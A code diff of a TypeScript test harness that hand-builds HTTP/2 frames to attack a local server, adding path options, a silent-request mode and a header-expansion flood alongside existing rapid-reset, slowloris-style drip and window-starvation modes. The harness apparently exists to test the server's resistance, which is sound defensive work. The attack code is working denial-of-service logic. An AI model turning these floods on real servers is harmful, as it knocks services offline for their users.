@@ -6,24 +6,26 @@
 // its stdin closes.
 import http2 from "node:http2";
 import net from "node:net";
-import { create, toBinary } from "@bufbuild/protobuf";
-import { GetSettingsRequestSchema } from "../../../gen/codexmanager/settings/v1/settings_pb.js";
+import { ERROR, FLAG, FRAME, PREFACE, block, expandingBlock, frame, rstStream, settings, SETTINGS_ACK } from "../h2-frames.js";
+import { readRequest, type PathName } from "./paths.js";
 
 export type Attack =
-  /** Streams opened and reset at once, over many connections, reconnecting when closed. */
-  | { mode: "rapid-reset"; port: number; connections: number; streamsPerSecond: number; durationMs: number }
+  /** Streams opened (on `path`) and reset at once, over many connections, reconnecting when closed. */
+  | { mode: "rapid-reset"; port: number; connections: number; streamsPerSecond: number; durationMs: number; path: PathName }
   /** Connections that send the HTTP/2 preface and SETTINGS, then nothing. */
   | { mode: "silent-preface"; port: number; connections: number; deadlineMs: number }
   /** HTTP/2 and HTTP/1.1 requests whose headers arrive one byte at a time. */
   | { mode: "header-drip"; port: number; connections: number; byteEveryMs: number; deadlineMs: number }
-  /** Big GetSettings answers on streams that never send WINDOW_UPDATE. */
-  | { mode: "no-window-update"; port: number; connections: number; streamsPerConnection: number; sessionId: string; deadlineMs: number };
+  /** Requests (on `path`) whose bodies never come: their headers, then nothing. */
+  | { mode: "silent-request"; port: number; connections: number; path: PathName; sessionId: string; deadlineMs: number }
+  /** Reads of a big map (on `path`) on streams that never send WINDOW_UPDATE. */
+  | { mode: "no-window-update"; port: number; connections: number; streamsPerConnection: number; sessionId: string; path: PathName; deadlineMs: number }
+  /** Header blocks of 4 KB that decode to about 400 KiB, as fast as the server takes them, with SETTINGS acknowledged or not. */
+  | { mode: "header-flood"; port: number; connections: number; durationMs: number; acknowledge: boolean };
 
 const attack = JSON.parse(process.argv[2]!) as Attack;
 const HOST = "127.0.0.1";
-const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
-const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
-const GET_SETTINGS = "/codexmanager.settings.v1.SettingsService/GetSettings";
+const EMPTY_SETTINGS = settings();
 
 const say = (line: object) => process.stdout.write(`${JSON.stringify(line)}\n`);
 const noop = () => {};
@@ -48,22 +50,10 @@ class Lifetimes {
   }
 }
 
-// HTTP/2 frames, by hand: what an attacker sends is not what a polite client library would.
-const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-};
-const literal = (name: string, value: string) => Buffer.concat([Buffer.from([0x10, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
-const REQUEST_BLOCK = Buffer.concat([literal(":method", "POST"), literal(":scheme", "http"), literal(":path", GET_SETTINGS), literal(":authority", HOST), literal("content-type", "application/grpc")]);
-const HEADERS = 1;
-const RST_STREAM = 3;
-const GOAWAY = 7;
-const END_HEADERS = 0x4;
-const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** A request's headers as an HPACK block (literals): what an attacker sends is not what a polite client library would. */
+const requestBlock = (headers: http2.OutgoingHttpHeaders) =>
+  block({ ":scheme": "http", ":authority": HOST, ...(headers as Record<string, string>) });
+const CANCEL = ERROR.CANCEL;
 
 /** Counts the GOAWAY frames a connection receives. */
 function onGoaway(socket: net.Socket, seen: () => void) {
@@ -73,36 +63,27 @@ function onGoaway(socket: net.Socket, seen: () => void) {
     while (pending.length >= 9) {
       const length = pending.readUIntBE(0, 3);
       if (pending.length < 9 + length) break;
-      if (pending[3] === GOAWAY) seen();
+      if (pending[3] === FRAME.GOAWAY) seen();
       pending = pending.subarray(9 + length);
     }
   });
 }
 
-async function rapidReset(a: Extract<Attack, { mode: "rapid-reset" }>) {
-  const deadline = Date.now() + a.durationMs;
-  const maxStreams = (a.streamsPerSecond * a.durationMs) / 1000;
-  /** Each connection sends 50 streams per write; this pause between writes makes the rate. */
-  const pause = (50 * a.connections * 1000) / a.streamsPerSecond;
-  let streams = 0;
-  let sessions = 0;
-  let goaways = 0;
+/**
+ * `connections` raw HTTP/2 connections at once, each reconnecting when the server closes it,
+ * until `more()` says stop: each connection sends the preface (and `settingsAck`), then `use(socket)`.
+ */
+async function reconnecting(a: { port: number; connections: number }, more: () => boolean, use: (socket: net.Socket) => Promise<void>, settingsAck = false) {
+  let connections = 0;
   const slot = async () => {
-    while (Date.now() < deadline && streams < maxStreams) {
-      sessions++;
+    while (more()) {
+      connections++;
       const socket = net.connect(a.port, HOST);
       socket.on("error", noop);
-      onGoaway(socket, () => goaways++);
       const closed = new Promise<void>((resolve) => socket.once("close", resolve));
       await new Promise<void>((resolve) => socket.once("connect", resolve).once("close", resolve));
-      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
-      // Each stream: HEADERS (no END_STREAM) and at once RST_STREAM, 50 streams per write.
-      for (let id = 1; !socket.destroyed && Date.now() < deadline && streams < maxStreams && id < 2 ** 31 - 100; ) {
-        const batch: Buffer[] = [];
-        for (let i = 0; i < 50; i++, id += 2, streams++) batch.push(frame(HEADERS, END_HEADERS, id, REQUEST_BLOCK), frame(RST_STREAM, 0, id, CANCEL));
-        if (!socket.write(Buffer.concat(batch))) await new Promise((r) => socket.once("drain", r).once("close", r));
-        await new Promise((r) => setTimeout(r, pause));
-      }
+      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, ...(settingsAck ? [SETTINGS_ACK] : [])]));
+      await use(socket);
       socket.destroy();
       await closed;
     }
@@ -110,6 +91,32 @@ async function rapidReset(a: Extract<Attack, { mode: "rapid-reset" }>) {
   const slots = Array.from({ length: a.connections }, slot);
   say({ event: "ready" });
   await Promise.all(slots);
+  return connections;
+}
+
+/** Writes `bytes`, waiting for the socket to drain (or close) when it is full. */
+const send = async (socket: net.Socket, bytes: Buffer) => {
+  if (!socket.write(bytes)) await new Promise((r) => socket.once("drain", r).once("close", r));
+};
+
+async function rapidReset(a: Extract<Attack, { mode: "rapid-reset" }>) {
+  const deadline = Date.now() + a.durationMs;
+  const maxStreams = (a.streamsPerSecond * a.durationMs) / 1000;
+  /** Each connection sends 50 streams per write; this pause between writes makes the rate. */
+  const pause = (50 * a.connections * 1000) / a.streamsPerSecond;
+  let streams = 0;
+  let goaways = 0;
+  const request = requestBlock(readRequest(a.path, "rapid-reset").headers);
+  const sessions = await reconnecting(a, () => Date.now() < deadline && streams < maxStreams, async (socket) => {
+    onGoaway(socket, () => goaways++);
+    // Each stream: HEADERS (no END_STREAM) and at once RST_STREAM, 50 streams per write.
+    for (let id = 1; !socket.destroyed && Date.now() < deadline && streams < maxStreams && id < 2 ** 31 - 100; ) {
+      const batch: Buffer[] = [];
+      for (let i = 0; i < 50; i++, id += 2, streams++) batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, request), rstStream(id, CANCEL));
+      await send(socket, Buffer.concat(batch));
+      await new Promise((r) => setTimeout(r, pause));
+    }
+  });
   return { streams, sessions, goaways };
 }
 
@@ -161,7 +168,7 @@ async function silentPreface(a: Extract<Attack, { mode: "silent-preface" }>) {
 }
 
 async function headerDrip(a: Extract<Attack, { mode: "header-drip" }>) {
-  const headers = frame(HEADERS, END_HEADERS, 1, REQUEST_BLOCK);
+  const headers = frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(readRequest("grpc", "drip").headers));
   const h1 = Buffer.from(`POST /api/sessions HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: application/json\r\nX-Padding: ${"x".repeat(200)}\r\n\r\n`);
   const lifetimes = new Lifetimes();
   const timers: NodeJS.Timeout[] = [];
@@ -184,10 +191,7 @@ async function headerDrip(a: Extract<Attack, { mode: "header-drip" }>) {
 }
 
 async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) {
-  const body = toBinary(GetSettingsRequestSchema, create(GetSettingsRequestSchema, { sessionId: a.sessionId }));
-  const envelope = Buffer.alloc(5 + body.length);
-  envelope.writeUInt32BE(body.length, 1);
-  envelope.set(body, 5);
+  const { headers, body } = readRequest(a.path, a.sessionId);
   const lifetimes = new Lifetimes();
   const resetByServer: number[] = [];
   const sessions: http2.ClientHttp2Session[] = [];
@@ -197,7 +201,7 @@ async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) 
     session.on("error", noop);
     sessions.push(session);
     for (let s = 0; s < a.streamsPerConnection; s++) {
-      const stream = session.request({ ":method": "POST", ":path": GET_SETTINGS, "content-type": "application/grpc", te: "trailers" });
+      const stream = session.request(headers, { endStream: body === undefined });
       stream.on("error", noop);
       stream.once("response", () => {
         const closed = lifetimes.start();
@@ -206,7 +210,7 @@ async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) 
           closed();
         });
       });
-      stream.end(envelope);
+      if (body) stream.end(body);
     }
   }
   const deadline = Date.now() + a.deadlineMs;
@@ -219,7 +223,52 @@ async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) 
   return { resetByServer: resetByServer.length, ...lifetimes.summary() };
 }
 
-const run = { "rapid-reset": rapidReset, "silent-preface": silentPreface, "header-drip": headerDrip, "no-window-update": noWindowUpdate }[attack.mode] as (a: Attack) => Promise<object>;
+/** A request whose body the server waits for on `path` (REST's read takes none: a create does). */
+function waitingRequest(path: PathName, sessionId: string): http2.OutgoingHttpHeaders {
+  if (path === "rest") return { ":method": "POST", ":path": "/api/sessions", "content-type": "application/json" };
+  return readRequest(path, sessionId).headers;
+}
+
+async function silentRequest(a: Extract<Attack, { mode: "silent-request" }>) {
+  // Headers without END_STREAM, and never a byte of body: the stream (and so the connection) must be closed.
+  const request = frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, requestBlock(waitingRequest(a.path, a.sessionId)));
+  const lifetimes = new Lifetimes();
+  const failed = await openMany(a.port, a.connections, (socket) => socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, SETTINGS_ACK, request])), lifetimes);
+  say({ event: "ready" });
+  await untilClosed(lifetimes, a.deadlineMs);
+  return { connectFailed: failed, ...lifetimes.summary() };
+}
+
+async function headerFlood(a: Extract<Attack, { mode: "header-flood" }>) {
+  const deadline = Date.now() + a.durationMs;
+  const bomb = expandingBlock({ ":method": "GET", ":scheme": "http", ":authority": HOST, ":path": "/healthz" }, 4000, 100);
+  let sent = 0;
+  let answered = 0;
+  const connections = await reconnecting(a, () => Date.now() < deadline, async (socket) => {
+    // A 200 would come as a HEADERS frame whose first byte is 0x88 (:status 200, static table).
+    let pending = Buffer.alloc(0);
+    socket.on("data", (chunk: Buffer) => {
+      pending = Buffer.concat([pending, chunk]);
+      while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
+        if (pending[3] === FRAME.HEADERS && pending[9] === 0x88) answered++;
+        pending = pending.subarray(9 + pending.readUIntBE(0, 3));
+      }
+    });
+    for (let id = 1; !socket.destroyed && Date.now() < deadline && id < 2 ** 31 - 100; id += 2, sent++) {
+      await send(socket, frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, bomb));
+    }
+  }, a.acknowledge);
+  return { sent, answered, connections };
+}
+
+const run = {
+  "rapid-reset": rapidReset,
+  "silent-preface": silentPreface,
+  "silent-request": silentRequest,
+  "header-drip": headerDrip,
+  "no-window-update": noWindowUpdate,
+  "header-flood": headerFlood,
+}[attack.mode] as (a: Attack) => Promise<object>;
 const started = Date.now();
 const result = await run(attack);
 say({ event: "done", tookMs: Date.now() - started, ...result });
